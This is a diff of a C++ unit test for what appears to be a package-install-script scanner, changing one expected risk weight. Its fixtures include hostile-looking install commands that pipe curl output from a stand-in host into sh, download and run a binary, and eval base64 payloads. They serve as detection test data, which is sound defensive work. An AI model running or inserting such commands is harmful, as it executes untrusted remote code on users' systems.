@@ -166,7 +166,7 @@ TEST(VetSource, InstallScriptsAreReadWithWhatTheyRun) {
     EXPECT_EQ(weight_of(read({}, {{"preinstall", "node -e \"eval(atob('YWxlcnQoMSk7'))\""}}), "S04"), 4.0);
     EXPECT_EQ(weight_of(read({{"a.js", "eval(atob('YWxlcnQoMSk7'))"}}, {{"install", "node a.js"}}), "S04"), 4.0);
     EXPECT_EQ(weight_of(read({{"run.sh", "curl -s https://h.example/x | sh"}}, {{"install", "sh run.sh"}}), "S08"),
-              4.0 * 0.5);
+              4.0);
     EXPECT_EQ(weight_of(read({{"a.js", "require('child_process').exec('/bin/sh ./b.sh')"},
                               {"b.sh", "curl http://h.example/x -o x; chmod +x x; ./x"}},
                              {{"preinstall", "start /B node a.js & node a.js"}}),
